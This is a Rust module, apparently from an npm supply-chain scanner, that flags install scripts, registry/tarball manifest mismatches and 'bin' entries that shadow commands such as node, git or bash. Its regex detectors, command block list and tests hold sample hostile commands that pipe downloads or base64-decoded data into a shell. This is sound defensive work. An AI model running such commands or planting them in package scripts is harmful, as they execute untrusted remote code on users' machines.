//! The tarball's package.json: install scripts, manifest confusion against the registry's
//! version document, and `bin` names.
//!
//! Manifest confusion (Socket's manifestConfusion, GuardDog's metadata_mismatch): npm shows and
//! resolves with the registry's copy, but installs and runs the tarball's. Before comparing, both
//! sides get the normalisation npm itself applies when it packs and publishes, so that ordinary
//! packages do not differ:
//! * `bin` through npm-normalize-package-bin (string form → `{basename(name): path}`, paths
//!   cleaned of `./`, `..` and `\`);
//! * `scripts.install = "node-gyp rebuild"` when `binding.gyp` is at the root, there is no
//!   `install`/`preinstall` and `gypfile` is not `false`; `scripts.start = "node server.js"` when
//!   `server.js` is at the root and there is no `start` (both from @npmcli/package-json);
//! * `version` cleaned like `semver.clean` (`v1.2.3`, `=1.2.3`);
//! * a missing map equals an empty one, and map order is irrelevant;
//! * npm before 7 copied `optionalDependencies` into `dependencies` in the published document,
//!   so a registry dependency that the tarball lists only as optional (same range) is not a
//!   difference.

use std::collections::BTreeMap;
use std::sync::LazyLock;

use regex::Regex;
use serde_json::{Map, Value};

use super::{BinShadow, InstallScript, ManifestMismatch};

const INSTALL_SCRIPTS: &[&str] = &["preinstall", "install", "postinstall"];

/// Command names a package `bin` must not take over: shells, core tools, package managers, and
/// the AI clients and runtimes an MCP server is launched next to. A global install (or a local
/// one earlier on PATH via `npx`) of a package with such a bin silently replaces the real one.
pub const SHADOWED_COMMANDS: &[&str] = &[
    "node",
    "nodejs",
    "npm",
    "npx",
    "pnpm",
    "pnpx",
    "yarn",
    "corepack",
    "bun",
    "bunx",
    "deno",
    "git",
    "gh",
    "sh",
    "bash",
    "zsh",
    "fish",
    "dash",
    "ksh",
    "csh",
    "tcsh",
    "pwsh",
    "powershell",
    "cmd",
    "ls",
    "cp",
    "mv",
    "rm",
    "cat",
    "chmod",
    "chown",
    "ln",
    "mkdir",
    "find",
    "grep",
    "sed",
    "awk",
    "tar",
    "env",
    "which",
    "curl",
    "wget",
    "python",
    "python3",
    "pip",
    "pip3",
    "uv",
    "uvx",
    "sudo",
    "su",
    "ssh",
    "scp",
    "sftp",
    "rsync",
    "gpg",
    "openssl",
    "docker",
    "podman",
    "kubectl",
    "helm",
    "terraform",
    "aws",
    "gcloud",
    "az",
    "make",
    "gcc",
    "cc",
    "go",
    "cargo",
    "rustc",
    "java",
    "ruby",
    "perl",
    "php",
    "code",
    "cursor",
    "claude",
    "codex",
    "gemini",
    "windsurf",
    "open",
    "xdg-open",
    "security",
    "launchctl",
    "systemctl",
    "crontab",
];

pub(crate) struct NormalizeCtx {
    pub has_binding_gyp: bool,
    pub has_server_js: bool,
    pub has_shrinkwrap: bool,
}

pub(crate) fn parse_package_json(bytes: &[u8]) -> Result<Value, String> {
    // npm's JSON reader strips a BOM; a package that relies on that is not broken.
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    match serde_json::from_slice::<Value>(bytes) {
        Ok(v) if v.is_object() => Ok(v),
        Ok(_) => Err("package.json is not a JSON object".to_string()),
        Err(e) => Err(format!("package.json is not valid JSON: {e}")),
    }
}

fn script_text(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

pub(crate) fn install_scripts(pkg: &Value) -> Vec<InstallScript> {
    INSTALL_SCRIPTS
        .iter()
        .filter_map(|name| {
            let command = script_text(pkg.get("scripts")?.get(*name)?);
            (!command.trim().is_empty()).then(|| InstallScript {
                name: name.to_string(),
                signals: signals(&command),
                command,
            })
        })
        .collect()
}

/// What a script command does that deserves a look.
pub(crate) fn signals(command: &str) -> Vec<String> {
    static SIGNALS: LazyLock<Vec<(&'static str, Regex)>> = LazyLock::new(|| {
        [
            ("curl", r"(?i)\bcurl\b"),
            ("wget", r"(?i)\bwget\b"),
            (
                "node-eval",
                r"(?i)\bnode(?:js)?(?:\.exe)?\s+(?:-[-\w=]+\s+)*?(?:-e|--eval|-p|--print|-pe)\b",
            ),
            ("base64", r"(?i)base64|\batob\b"),
            // `--eval` is node-eval already.
            ("eval", r"(?:^|[^-\w])eval\b"),
            ("url", r"(?i)\b(?:https?|ftp)://"),
            (
                "pipe-to-shell",
                // `||` is "or else", not a pipe.
                r"(?i)(?:^|[^|])\|\s*(?:sudo\s+)?(?:sh|bash|zsh|dash|ksh|node|python3?|perl|ruby)\b",
            ),
            (
                "powershell",
                r"(?i)\b(?:powershell|pwsh|invoke-expression|invoke-webrequest|iex|iwr)\b",
            ),
        ]
        .into_iter()
        .map(|(name, re)| (name, Regex::new(re).expect("static regex")))
        .collect()
    });
    SIGNALS
        .iter()
        .filter(|(_, re)| re.is_match(command))
        .map(|(name, _)| name.to_string())
        .collect()
}

fn has_script(pkg: &Value, name: &str) -> bool {
    pkg.get("scripts")
        .and_then(|s| s.get(name))
        .is_some_and(|v| !v.is_null())
}

/// npm runs `node-gyp rebuild` at install for this package (no script in package.json says so).
pub(crate) fn implicit_gyp(pkg: &Value, has_binding_gyp: bool) -> bool {
    has_binding_gyp
        && pkg.get("gypfile") != Some(&Value::Bool(false))
        && !has_script(pkg, "install")
        && !has_script(pkg, "preinstall")
}

fn normalized_scripts(pkg: &Value, ctx: &NormalizeCtx) -> Map<String, Value> {
    let mut scripts = pkg
        .get("scripts")
        .and_then(Value::as_object)
        .cloned()
        .unwrap_or_default();
    if implicit_gyp(pkg, ctx.has_binding_gyp) {
        scripts.insert("install".into(), "node-gyp rebuild".into());
    }
    if ctx.has_server_js && !scripts.contains_key("start") {
        scripts.insert("start".into(), "node server.js".into());
    }
    scripts
}

/// Node's `path.posix.basename`, trailing slashes ignored.
fn node_basename(p: &str) -> &str {
    p.trim_end_matches('/').rsplit('/').next().unwrap_or("")
}

/// `path.posix.join('/', p).slice(1)`: `.` and `..` resolved (clamped at the root), empty
/// components dropped.
fn clean_rooted(p: &str) -> String {
    let mut parts: Vec<&str> = Vec::new();
    for part in p.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            other => parts.push(other),
        }
    }
    parts.join("/")
}

/// npm-normalize-package-bin: the command → path map npm links, from any accepted `bin` form.
pub fn normalize_bin(name: Option<&str>, bin: Option<&Value>) -> BTreeMap<String, String> {
    let mut raw: Vec<(String, &Value)> = Vec::new();
    match bin {
        Some(v @ Value::String(_)) => match name {
            Some(n) => raw.push((node_basename(n).to_string(), v)),
            None => return BTreeMap::new(),
        },
        Some(Value::Array(items)) => {
            for item in items {
                if let Some(s) = item.as_str() {
                    raw.push((node_basename(s).to_string(), item));
                }
            }
        }
        Some(Value::Object(map)) => raw.extend(map.iter().map(|(k, v)| (k.clone(), v))),
        _ => return BTreeMap::new(),
    }
    let mut out = BTreeMap::new();
    for (key, target) in raw {
        let key = key.replace(['\\', ':'], "/");
        let base = clean_rooted(node_basename(&key));
        let Some(target) = target.as_str() else {
            continue;
        };
        let target = clean_rooted(&target.replace('\\', "/"));
        if base.is_empty() || target.is_empty() {
            continue;
        }
        out.insert(base, target);
    }
    out
}

fn bin_of(pkg: &Value) -> BTreeMap<String, String> {
    normalize_bin(pkg.get("name").and_then(Value::as_str), pkg.get("bin"))
}

pub(crate) fn bin_shadowing(pkg: &Value) -> Vec<BinShadow> {
    bin_of(pkg)
        .into_iter()
        .filter(|(name, _)| {
            let lower = name.to_ascii_lowercase();
            let stem = [".exe", ".cmd", ".bat", ".ps1"]
                .iter()
                .find_map(|ext| lower.strip_suffix(ext))
                .unwrap_or(&lower);
            SHADOWED_COMMANDS.contains(&stem)
        })
        .map(|(bin, path)| BinShadow { bin, path })
        .collect()
}

fn clean_version(v: &Value) -> Value {
    match v.as_str() {
        Some(s) => {
            let s = s.trim();
            let s = s.trim_start_matches(['=', 'v', 'V']).trim();
            Value::String(s.to_string())
        }
        None => v.clone(),
    }
}

fn or_null(v: Option<&Value>) -> Value {
    v.cloned().unwrap_or(Value::Null)
}

/// Compare two key → value maps, one mismatch per differing key.
fn compare_maps(
    field: &str,
    registry: &Map<String, Value>,
    tarball: &Map<String, Value>,
    install_relevant: impl Fn(&str) -> bool,
    out: &mut Vec<ManifestMismatch>,
) {
    let mut keys: Vec<&String> = registry.keys().chain(tarball.keys()).collect();
    keys.sort();
    keys.dedup();
    for key in keys {
        let (r, t) = (registry.get(key), tarball.get(key));
        if r != t {
            out.push(ManifestMismatch {
                field: format!("{field}.{key}"),
                registry: or_null(r),
                tarball: or_null(t),
                install_relevant: install_relevant(key),
            });
        }
    }
}

fn as_map(v: Option<&Value>) -> Option<Map<String, Value>> {
    match v {
        None | Some(Value::Null) => Some(Map::new()),
        Some(Value::Object(m)) => Some(m.clone()),
        Some(_) => None,
    }
}

/// Differences between the registry's version document and the tarball's package.json.
pub(crate) fn compare(
    registry: &Value,
    tarball: &Value,
    ctx: &NormalizeCtx,
) -> Vec<ManifestMismatch> {
    let mut out = Vec::new();
    let mut scalar = |field: &str, r: Value, t: Value, install_relevant: bool| {
        if r != t {
            out.push(ManifestMismatch {
                field: field.to_string(),
                registry: r,
                tarball: t,
                install_relevant,
            });
        }
    };
    scalar(
        "name",
        or_null(registry.get("name")),
        or_null(tarball.get("name")),
        false,
    );
    scalar(
        "version",
        clean_version(&or_null(registry.get("version"))),
        clean_version(&or_null(tarball.get("version"))),
        false,
    );
    if let Some(Value::Bool(r)) = registry.get("_hasShrinkwrap") {
        scalar(
            "_hasShrinkwrap",
            Value::Bool(*r),
            Value::Bool(ctx.has_shrinkwrap),
            false,
        );
    }
    if let Some(Value::Bool(r)) = registry.get("hasInstallScript") {
        let t = !install_scripts(tarball).is_empty() || implicit_gyp(tarball, ctx.has_binding_gyp);
        scalar("hasInstallScript", Value::Bool(*r), Value::Bool(t), true);
    }

    compare_maps(
        "scripts",
        &normalized_scripts(registry, ctx),
        &normalized_scripts(tarball, ctx),
        |k| INSTALL_SCRIPTS.contains(&k),
        &mut out,
    );

    let tarball_optional = as_map(tarball.get("optionalDependencies")).unwrap_or_default();
    for field in ["dependencies", "optionalDependencies", "peerDependencies"] {
        match (as_map(registry.get(field)), as_map(tarball.get(field))) {
            (Some(mut r), Some(t)) => {
                if field == "dependencies" {
                    r.retain(|k, v| t.contains_key(k) || tarball_optional.get(k) != Some(v));
                }
                compare_maps(field, &r, &t, |_| false, &mut out);
            }
            // Pre-normalisation shapes (arrays, strings) are compared whole.
            _ => {
                let (rv, tv) = (or_null(registry.get(field)), or_null(tarball.get(field)));
                if rv != tv {
                    out.push(ManifestMismatch {
                        field: field.to_string(),
                        registry: rv,
                        tarball: tv,
                        install_relevant: false,
                    });
                }
            }
        }
    }

    let to_map = |b: BTreeMap<String, String>| -> Map<String, Value> {
        b.into_iter().map(|(k, v)| (k, Value::String(v))).collect()
    };
    compare_maps(
        "bin",
        &to_map(bin_of(registry)),
        &to_map(bin_of(tarball)),
        |_| false,
        &mut out,
    );
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn bin_normalisation_matches_npm() {
        let b = normalize_bin(Some("@scope/tool"), Some(&json!("./bin/cli.js")));
        assert_eq!(b.get("tool").map(String::as_str), Some("bin/cli.js"));
        let b = normalize_bin(
            Some("x"),
            Some(&json!({"a": "./x/../y.js", "../evil": "z.js", "c:d": "/abs.js", "e": 1})),
        );
        assert_eq!(b.get("a").map(String::as_str), Some("y.js"));
        assert_eq!(b.get("evil").map(String::as_str), Some("z.js"));
        assert_eq!(b.get("d").map(String::as_str), Some("abs.js"));
        assert!(!b.contains_key("e"));
        let b = normalize_bin(Some("x"), Some(&json!(["bin/a.js", "bin/b"])));
        assert_eq!(b.len(), 2);
        assert!(normalize_bin(None, Some(&json!("cli.js"))).is_empty());
    }

    #[test]
    fn install_signals() {
        let s = signals("curl -s https://x.example/p.sh | bash");
        assert!(s.contains(&"curl".into()) && s.contains(&"url".into()));
        assert!(s.contains(&"pipe-to-shell".into()));
        assert_eq!(signals("node -e \"require('x')\""), vec!["node-eval"]);
        assert_eq!(
            signals("node --max-old-space-size=99 --eval x"),
            vec!["node-eval"]
        );
        assert!(signals("echo aGk= | base64 -d | sh").contains(&"base64".into()));
        assert!(signals("powershell -c iwr x").contains(&"powershell".into()));
        assert!(signals("node-gyp rebuild").is_empty());
        assert!(signals("node scripts/postinstall.js").is_empty());
        assert!(signals("node evaluate.js").is_empty());
        assert!(signals("node a.js || node b.js").is_empty());
        assert_eq!(signals("cat x|sh"), vec!["pipe-to-shell"]);
    }

    #[test]
    fn version_and_optional_deps_tolerance() {
        let ctx = NormalizeCtx {
            has_binding_gyp: false,
            has_server_js: false,
            has_shrinkwrap: false,
        };
        let reg = json!({"name": "a", "version": "1.0.0",
            "dependencies": {"x": "^1", "o": "^2"}, "optionalDependencies": {"o": "^2"}});
        let tar = json!({"name": "a", "version": "v1.0.0",
            "dependencies": {"x": "^1"}, "optionalDependencies": {"o": "^2"}});
        assert!(compare(&reg, &tar, &ctx).is_empty());
    }

    #[test]
    fn gyp_and_server_js_normalisation() {
        let ctx = NormalizeCtx {
            has_binding_gyp: true,
            has_server_js: true,
            has_shrinkwrap: false,
        };
        let reg = json!({"name": "a", "version": "1.0.0",
            "scripts": {"install": "node-gyp rebuild", "start": "node server.js"}});
        let tar = json!({"name": "a", "version": "1.0.0"});
        assert!(compare(&reg, &tar, &ctx).is_empty());
        assert!(implicit_gyp(&tar, true));
        assert!(!implicit_gyp(&json!({"gypfile": false}), true));
    }

    #[test]
    fn shadowing() {
        let s = bin_shadowing(
            &json!({"name": "x", "bin": {"git": "a.js", "ok": "b.js", "NPX.cmd": "c"}}),
        );
        let names: Vec<_> = s.iter().map(|b| b.bin.as_str()).collect();
        assert_eq!(names, vec!["NPX.cmd", "git"]);
        assert_eq!(
            bin_shadowing(&json!({"name": "@evil/node", "bin": "x.js"}))[0].bin,
            "node"
        );
    }
}
